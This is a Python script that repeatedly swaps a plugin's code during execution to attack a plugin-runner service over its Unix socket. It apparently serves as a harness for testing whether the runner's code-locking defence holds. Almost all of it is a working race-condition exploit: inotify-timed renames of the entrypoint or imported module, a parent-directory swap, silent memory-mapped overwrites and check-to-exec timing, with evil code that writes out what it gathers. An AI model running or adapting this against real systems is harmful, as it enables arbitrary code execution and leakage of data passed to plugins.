#!/usr/bin/python3
"""Swaps a plugin's code while it runs, over and over, as somebody who may write its tree.

    swap.py PLUGIN_DIR[,PLUGIN_DIR...] EVIL_DIR WHAT RUNS LEAK_DIR

Each run enqueues one job, waits until the plugin's script was opened by its exec (inotify tells: the locked copy may be
read by anybody), and 0 to 30 ms later puts evil code in place until the job has ended; then all is put back. WHAT:
  script   the entrypoint, by rename
  module   the module it imports after reading its request, by rename
  parent   the directory above the plugin is renamed away, one with evil code stands in for it, and is taken back
  mapping  the module, by stores through a shared mapping that was opened before the lock: no time changes (the
           entrypoint cannot be exec'd while somebody has it open for writing: ETXTBSY)
  before   the entrypoint, by rename, some ms after the job was accepted, aimed at the moment between check and exec
Several plugins are attacked side by side, each by a process of its own, and share the RUNS. Evil code writes what it
got into LEAK_DIR. `mapping` says LEAK_DIR.mapped and waits for LEAK_DIR.locked. Prints {"runs", "swapped", "answered", "refused", "leaks", "seconds"}.
"""
import concurrent.futures
import ctypes
import glob
import json
import mmap
import os
import random
import select
import shutil
import socket
import struct
import sys
import time

IN_OPEN = 0x20
libc = ctypes.CDLL(None, use_errno=True)


def call(method, target, body=""):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("/run/ductile/api.sock")
        s.sendall(("%s %s HTTP/1.0\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n%s" % (method, target, len(body), body)).encode())
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    return json.loads(answer.split(b"\r\n\r\n", 1)[1])


class Opens:
    """Tells when the script is exec'd: the first open of the locked copy, or the second of the source (the first is
    the one who checks it)."""

    def __init__(self, plugin):
        self.fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        watch = lambda path: libc.inotify_add_watch(self.fd, path.encode(), IN_OPEN)
        self.enough = {watch(path): 1 for path in glob.glob("/opt/ductile/locked/%s/*/main.py" % os.path.basename(plugin))}
        self.enough[watch(plugin + "/main.py")] = 2

    def read(self):
        try:
            data = os.read(self.fd, 65536)
        except BlockingIOError:
            return []
        seen, at = [], 0
        while at < len(data):
            wd, _, _, n = struct.unpack_from("iIII", data, at)
            seen.append(wd)
            at += 16 + n
        return seen

    def wait(self, seconds):
        count, end = dict(self.enough), time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0 and select.select([self.fd], [], [], left)[0]:
            for wd in self.read():
                count[wd] = count.get(wd, 99) - 1
                if count[wd] == 0:
                    return True
        return False


class Swap:
    def __init__(self, plugin, evil, what):
        self.what = what
        self.aim = 0.005  # seconds until the swap, for `before`: an attacker learns when the check is over
        name = "/lib/helper.py" if what in ("module", "mapping") else "/main.py"
        self.good, self.evil = plugin + name, evil + name
        self.root = os.path.dirname(plugin)
        self.shadow = os.path.dirname(self.root) + "/shadow"
        if what == "parent":
            shutil.rmtree(self.shadow, ignore_errors=True)
            shutil.copytree(self.root, self.shadow, symlinks=True)
            for name in ("main.py", "lib/helper.py"):
                shutil.copy2(evil + "/" + name, self.shadow + "/" + os.path.basename(plugin) + "/" + name)
        if what == "mapping":
            with open(self.good, "r+b") as f:
                self.map = mmap.mmap(f.fileno(), 0)
            self.text = self.map[:]
            self.map[:] = self.text  # dirty from now on: later stores touch no time
            self.bad = open(self.evil, "rb").read().ljust(len(self.text), b"\n")

    def on(self):
        if self.what == "parent":
            os.rename(self.root, self.root + ".away")
            os.rename(self.shadow, self.root)
        elif self.what == "mapping":
            self.map[:] = self.bad
        else:
            os.link(self.good, self.good + ".good")
            shutil.copy2(self.evil, self.good + ".evil")
            os.rename(self.good + ".evil", self.good)

    def off(self):
        if self.what == "parent":
            os.rename(self.root, self.shadow)
            os.rename(self.root + ".away", self.root)
        elif self.what == "mapping":
            self.map[:] = self.text
        else:
            os.rename(self.good + ".good", self.good)


def one_run(opens, swap, plugin, ends):
    opens.read()
    job = call("POST", "/plugin/%s/poll" % os.path.basename(plugin), "{}")["job_id"]
    if swap.what != "before" and not opens.wait(10):
        swapped = False
    else:
        time.sleep(random.uniform(0, 2 * swap.aim if swap.what == "before" else 0.030))
        swap.on()
        swapped = True
        if swap.what == "parent":
            time.sleep(random.uniform(0, 0.030))
            swap.off()
    while (state := call("GET", "/job/%d" % job)["state"]) in ("queued", "running"):
        time.sleep(0.005)
    if swapped and swap.what != "parent":
        swap.off()
    ends[state] = ends.get(state, 0) + 1
    swap.aim = min(swap.aim * (1.2 if state == "refused" else 0.9), 1)
    return swapped


def attack(plugin, evil, what, runs, leaks):
    swap, ends = Swap(plugin, evil, what), {}
    if what == "mapping":  # it is held; now the lock may be made
        open(leaks + ".mapped", "w").close()
        while not os.path.exists(leaks + ".locked"):
            time.sleep(0.01)
    opens = Opens(plugin)
    return sum(one_run(opens, swap, plugin, ends) for _ in range(runs)), ends


def main():
    plugins, evil, what, runs, leaks = sys.argv[1].split(","), sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]
    began = time.monotonic()
    shares = [runs // len(plugins) + (i < runs % len(plugins)) for i in range(len(plugins))]
    with concurrent.futures.ProcessPoolExecutor(len(plugins)) as pool:
        done = list(pool.map(attack, plugins, [evil] * len(plugins), [what] * len(plugins), shares, [leaks] * len(plugins)))
    ends = lambda state: sum(e.get(state, 0) for _, e in done)
    print(json.dumps({"runs": runs, "swapped": sum(n for n, _ in done), "answered": ends("succeeded"), "refused": ends("refused"),
                      "leaks": len(os.listdir(leaks)), "seconds": round(time.monotonic() - began)}))


main()
